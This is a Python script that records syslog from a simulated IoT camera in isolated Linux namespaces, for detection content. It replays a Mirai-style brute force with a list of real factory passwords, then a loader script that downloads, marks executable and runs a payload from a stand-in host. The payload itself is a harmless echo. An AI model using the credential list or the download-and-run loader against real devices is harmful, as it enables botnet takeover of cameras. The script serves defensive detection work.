"""Record a real attack on a small camera, and an ordinary day of the same camera.

What for: detection content and the demo need log lines that daemons really wrote. This script runs the daemons
(dropbear and busybox syslogd and httpd from Debian), attacks them, and keeps what *they* logged.

Steps:
  1. `python3 record.py` as root re-runs itself in network, UTS, mount and process namespaces of its own: nothing outside is
     touched, no packet leaves, and all of it is gone afterwards.
  2. Inside, the "camera" 192.0.2.10 runs syslogd and dropbear; its login shell traces each command to syslog, as some
     firmware does. The "loader" 198.51.100.23 serves a file that does nothing but say so.
  3. Attack: a storm of factory passwords, one that works, then the loader's commands. Benign: an administrator who
     mistypes once, looks around, and polls for firmware.
  4. Each line of the camera's syslog becomes one document with the time it was seen (`@timestamp`, milliseconds) and
     an `_id`; the results are `recording.bulk` and `benign.bulk` in the `_bulk` format.

Limits: needs root, Linux namespaces, and the Debian packages dropbear-bin and busybox. Standard library only, so that it
runs without lachan.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

CAMERA = "192.0.2.10"
LOADER = "198.51.100.23"
ADMIN = "203.0.113.5"
FACTORY_PASSWORD = "xc3511"
#: What a bot of the Mirai family tries, in this order; the last one is this camera's.
DICTIONARY = (
    ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"), ("root", "xmhdipc"),
    ("root", "default"), ("root", "juantech"), ("root", "123456"), ("root", "54321"), ("support", "support"),
    ("root", "klv123"), ("admin", "smcadmin"), ("root", "pass"), ("root", "anko"), ("root", FACTORY_PASSWORD),
)  # fmt: skip
LOADER_SCRIPT = f"""/bin/busybox LACHANTEST
cd /tmp
busybox wget http://{LOADER}/bins/sora.arm7 -O /tmp/.sora
chmod 777 /tmp/.sora
/tmp/.sora selfrep.dropbear
rm -f /tmp/.sora
"""
ADMIN_SCRIPT = f"""uptime
df /
cat /etc/hostname
busybox wget -q http://{ADMIN}/firmware/manifest.json -O /var/firmware/manifest.json
ls -l /var/firmware
"""
PAYLOAD = "#!/bin/sh\n# Harmless: stands for the binary that a loader would start.\necho harmless payload ran\n"
SHELL = '#!/bin/busybox sh\nexec /bin/busybox ash -x "$@" 2>/run/trace\n'


def run(*argv: str, **options: object) -> None:
    """Run one command and fail loudly.

    Raises:
        subprocess.CalledProcessError: The command ended with another status than 0.
    """
    subprocess.run(argv, check=True, **options)  # type: ignore[call-overload]


def build_room() -> None:
    """Give the namespaces their addresses, device nodes, accounts and folders."""
    run("hostname", "camera")
    run("ip", "link", "set", "lo", "up")
    for address in (CAMERA, LOADER, ADMIN):
        run("ip", "address", "add", f"{address}/32", "dev", "lo")
    for folder in ("/mnt", "/run", "/tmp"):  # noqa: S108  of the namespace, and empty
        run("mount", "-t", "tmpfs", "none", folder)
    build_devices(Path("/mnt/dev"))
    hashed = subprocess.run(
        ["busybox", "mkpasswd", "-m", "sha512", FACTORY_PASSWORD], check=True, capture_output=True, text=True
    ).stdout.strip()
    files = {
        "passwd": "root:x:0:0:root:/tmp:/run/shell\nadmin:x:1000:0:admin:/tmp:/run/shell\n",
        "shadow": f"root:{hashed}:20000:0:99999:7:::\nadmin:{hashed}:20000:0:99999:7:::\n",
        "shells": "/run/shell\n",
        "hostname": "camera\n",
    }
    for name, text in files.items():
        Path("/mnt", name).write_text(text, "ascii")
        run("mount", "--bind", f"/mnt/{name}", f"/etc/{name}")
    Path("/run/shell").write_text(SHELL, "ascii")
    Path("/run/shell").chmod(0o755)
    run("mount", "-t", "tmpfs", "none", "/var")
    for folder in ("/var/firmware", "/mnt/www/bins", "/mnt/www/firmware"):
        Path(folder).mkdir(parents=True)
    Path("/var/firmware").chmod(0o777)
    Path("/mnt/www/bins/sora.arm7").write_text(PAYLOAD, "ascii")
    Path("/mnt/www/firmware/manifest.json").write_text('{"version": "1.0.3"}\n', "ascii")


def build_devices(folder: Path) -> None:
    """Make a /dev of its own, so that the socket /dev/log is not the machine's."""
    folder.mkdir()
    for name in ("null", "zero", "random", "urandom", "tty"):
        (folder / name).touch()
        run("mount", "--bind", f"/dev/{name}", str(folder / name))
    (folder / "pts").mkdir()
    run("mount", "-t", "devpts", "-o", "newinstance,ptmxmode=0666", "none", str(folder / "pts"))
    (folder / "ptmx").symlink_to("pts/ptmx")
    run("mount", "--rbind", str(folder), "/dev")


def start_daemons() -> list[subprocess.Popen[bytes]]:
    """Start syslogd, the shell's logger, dropbear and two web servers; wait until they answer."""
    os.mkfifo("/run/trace", 0o622)
    os.chmod("/run/trace", 0o622)  # noqa: S103  any account's shell writes its trace
    run("/usr/bin/dropbearkey", "-t", "ed25519", "-f", "/run/hostkey", stdout=subprocess.DEVNULL)
    daemons = [subprocess.Popen(["busybox", "syslogd", "-n", "-O", "/run/messages"])]
    wait_until(lambda: Path("/dev/log").exists())
    daemons += [
        # Read-write, so that the pipe never ends between two sessions.
        subprocess.Popen(
            ["busybox", "logger", "-t", "sh", "-p", "authpriv.info"], stdin=os.open("/run/trace", os.O_RDWR)
        ),
        subprocess.Popen(
            ["dropbear", "-F", "-m", "-T", "1", "-r", "/run/hostkey", "-p", f"{CAMERA}:22", "-P", "/run/dropbear.pid"]
        ),
        subprocess.Popen(["busybox", "httpd", "-f", "-p", f"{LOADER}:80", "-h", "/mnt/www"]),
        subprocess.Popen(["busybox", "httpd", "-f", "-p", f"{ADMIN}:80", "-h", "/mnt/www"]),
    ]
    wait_until(lambda: Path("/run/dropbear.pid").exists())
    return daemons


def wait_until(reached: Callable[[], bool]) -> None:
    """Poll until `reached()` is true.

    Raises:
        TimeoutError: Not within ten seconds.
    """
    end = time.monotonic() + 10
    while not reached():
        if time.monotonic() > end:
            raise TimeoutError("a daemon did not start")
        time.sleep(0.02)


def login(user: str, password: str, source: str, script: str) -> int:
    """One SSH login with a password from the given address; the script is what the shell is asked to run."""
    done = subprocess.run(
        ["dbclient", "-y", "-y", "-T", "-b", source, f"{user}@{CAMERA}", script],
        env={"PATH": os.environ["PATH"], "HOME": "/run", "DROPBEAR_PASSWORD": password},
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60, check=False,
    )  # fmt: skip
    return done.returncode


def attack() -> None:
    """Play the storm, the success, the loader."""
    for user, password in DICTIONARY:
        login(user, password, LOADER, LOADER_SCRIPT)


def ordinary_day() -> None:
    """Play an administrator who mistypes once and then does ordinary work."""
    login("admin", "xc3151", ADMIN, ADMIN_SCRIPT)
    login("admin", FACTORY_PASSWORD, ADMIN, ADMIN_SCRIPT)
    login("root", FACTORY_PASSWORD, ADMIN, "uptime\n")


class Watcher(threading.Thread):
    """Read the syslog file as it grows; `documents` holds one document per line with the time it was seen."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.documents: list[dict[str, str]] = []
        self.done = threading.Event()

    def run(self) -> None:
        """Poll the file each millisecond until told to stop and nothing is left."""
        wait_until(lambda: Path("/run/messages").exists())
        with open("/run/messages", encoding="utf-8", errors="replace") as lines:
            while True:
                line = lines.readline()
                if line:
                    seen = datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
                    self.documents.append({"@timestamp": seen, "message": line.rstrip("\n")})
                elif self.done.is_set():
                    return
                else:
                    time.sleep(0.001)


def record(story: Callable[[], None], prefix: str) -> str:
    """Run one story against fresh daemons and return its `_bulk` text."""
    for stale in ("/run/messages", "/run/trace", "/run/hostkey", "/run/dropbear.pid", "/dev/log"):
        Path(stale).unlink(missing_ok=True)
    watcher = Watcher()
    watcher.start()
    daemons = start_daemons()
    try:
        story()
        time.sleep(0.5)  # the last session's farewell
    finally:
        for daemon in daemons:
            daemon.terminate()
            daemon.wait(10)
        watcher.done.set()
        watcher.join()
    return to_bulk(watcher.documents, prefix)


def to_bulk(documents: list[dict[str, str]], prefix: str) -> str:
    """Documents as `_bulk` lines; the `_id` hashes place and content, so that it stays when sent again."""
    lines = []
    for number, document in enumerate(documents):
        body = json.dumps(document)
        identity = f"{prefix}-{number:04d}-{hashlib.sha256(body.encode()).hexdigest()[:12]}"
        lines += [json.dumps({"create": {"_index": "logs-camera.syslog-default", "_id": identity}}), body]
    return "\n".join(lines) + "\n"


def main() -> int:
    """Re-run inside namespaces, record both stories, write the two files beside this script."""
    here = Path(__file__).resolve().parent
    if sys.argv[1:2] != ["--inside"]:
        missing = [name for name in ("dropbear", "dbclient", "busybox", "unshare") if shutil.which(name) is None]
        if missing or os.geteuid() != 0:
            print(
                f"needs root and: apt-get install dropbear-bin busybox util-linux iproute2 ({missing})", file=sys.stderr
            )
            return 2
        inside = [sys.executable, str(Path(__file__).resolve()), "--inside"]
        return subprocess.run(
            ["unshare", "--uts", "--net", "--mount", "--pid", "--fork", "--mount-proc", *inside], check=False
        ).returncode
    results = os.open(here, os.O_RDONLY | os.O_DIRECTORY)  # stays reachable when /tmp is covered
    build_room()
    for name, story in (("benign", ordinary_day), ("recording", attack)):
        text = record(story, name)
        file = os.open(f"{name}.bulk", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=results)
        os.write(file, text.encode())
        os.close(file)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
